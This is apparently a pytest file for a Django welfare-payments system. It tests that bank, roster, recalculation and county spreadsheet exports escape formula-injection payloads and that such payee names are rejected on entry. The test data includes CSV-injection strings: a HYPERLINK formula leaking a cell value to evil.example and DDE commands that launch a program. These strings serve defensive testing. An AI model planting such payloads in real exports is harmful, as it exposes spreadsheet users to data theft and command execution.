"""No export lets a name become a formula (issue 15, item 1): the bank files (CSV and Excel),
the roster, the recalculation list and the county workbooks, generated from data holding
every dangerous first character, contain no formula cell and no field starting like one;
the amounts stay numbers. Names like these are refused where they are typed in."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tests.benefits.conftest import quick_household
from tests.factories import NANGUAN, NANLING, TEST_PASSWORD
from yimen.benefits.exports import bank_csv, bank_xlsx, roster_xlsx
from yimen.benefits.models import Beneficiary
from yimen.benefits.services import roster
from yimen.benefits.services.payments import roll_issue
from yimen.errors import Invalid
from yimen.regions.models import Division
from yimen.spreadsheets import DANGEROUS_STARTS

pytestmark = pytest.mark.django_db
DEC = date(2026, 12, 1)
NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _plain_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def assert_no_formula_in_xlsx(data: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(data))
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_STARTS), cell.value
            rows.append([c.value for c in row])
    return rows


def assert_no_formula_in_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for field in row:
            assert not field.startswith(DANGEROUS_STARTS) or _plain_number(field), field
    return rows


@pytest.fixture
def hostile(staff):
    """One household for each dangerous name (written straight into the tables, as data
    older than the input check would be), the bank's name dangerous too."""
    homes = []
    for n, name in enumerate(NAMES):
        home = quick_household(staff.caseworker, name=name, amount=Decimal(f"50{n}.25"))
        Beneficiary.objects.filter(pk=home.pk).update(bank_name="=1+1 银行")
        homes.append(home)
    return homes


def test_bank_files_hold_no_formula_and_amounts_stay_numbers(staff, hostile):
    roll = roll_issue(actor=staff.approver, township_code=NANLING, month=DEC, today=DEC)
    rows = assert_no_formula_in_csv(bank_csv(roll).decode("utf-8-sig"))
    payees = {r[1] for r in rows[1:-1]}
    assert payees == {"'" + name for name in NAMES}
    assert sorted(r[4] for r in rows[1:-1]) == [f"50{n}.25" for n in range(len(NAMES))]
    assert_no_formula_in_csv(bank_csv(roll, "gb18030").decode("gb18030"))
    values = assert_no_formula_in_xlsx(bank_xlsx(roll))
    book = load_workbook(io.BytesIO(bank_xlsx(roll)))
    amounts = [row[4] for row in book.active.iter_rows(min_row=2)]
    assert {c.data_type for c in amounts} == {"n"}
    assert values[-1][4] == pytest.approx(sum(500.25 + n for n in range(len(NAMES))))


def test_roster_holds_no_formula(staff, hostile):
    rows = assert_no_formula_in_xlsx(roster_xlsx(roster.roster_search(staff.caseworker)))
    heads = {r[3] for r in rows[1:]}
    assert "'" + NAMES[0] in heads
    assert all(isinstance(r[7], float) for r in rows[1:])  # the monthly amount is a number


def test_recalculation_list_holds_no_formula(client, staff, hostile):
    call_command("load_parameters", verbosity=0)
    assert client.login(username=staff.caseworker.username, password=TEST_PASSWORD)
    answer = client.get(
        f"/benefits/recalc/?division={NANLING}&on=2027-01-01&format=csv&purpose=review"
    )
    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    rows = assert_no_formula_in_csv(answer.content.decode("utf-8-sig"))
    assert any(r[1] == "'" + NAMES[0] for r in rows[1:])


def test_county_workbooks_hold_no_formula(client, staff, hostile):
    Division.objects.filter(pk=NANLING).update(name='=HYPERLINK("http://evil.example")')
    assert client.login(username=staff.supervisor.username, password=TEST_PASSWORD)
    for url in (
        f"/county/dashboard/{NANGUAN}/excel/?from=2026-01&to=2026-12",
        f"/county/statistics/{NANGUAN}/excel/?month=2026-12",
    ):
        answer = client.get(url)
        assert answer.status_code == 200, url
        rows = assert_no_formula_in_xlsx(answer.content)
        assert any('\'=HYPERLINK("http://evil.example")' in r for r in rows), url


@pytest.mark.parametrize("name", [*NAMES, "＝1+1", " =1+1"])
def test_a_payee_like_a_formula_is_refused_and_nothing_changes(staff, name):
    home = quick_household(staff.caseworker)
    with pytest.raises(Invalid) as refused:
        roster.account_set(
            actor=staff.caseworker,
            beneficiary_id=home.pk,
            payee_name=name if name.strip() else "x" + name,
            bank_name="中国银行",
            number="6222020200112234",
        )
    assert "公式" in refused.value.render("zh-hans")
    assert "formula" in refused.value.render("en")
    home.refresh_from_db()
    assert home.payee_name == "王小明" and home.account_number == "6222020200112233"


def test_the_account_form_refuses_a_formula_payee(client, staff):
    home = quick_household(staff.caseworker)
    assert client.login(username=staff.caseworker.username, password=TEST_PASSWORD)
    answer = client.post(
        f"/benefits/households/{home.pk}/account/",
        {"payee_name": NAMES[0], "bank_name": "中国银行", "account_number": "6222020200112234"},
        HTTP_ACCEPT_LANGUAGE="zh-hans",
    )
    assert answer.status_code < 500
    home.refresh_from_db()
    assert home.payee_name == "王小明"
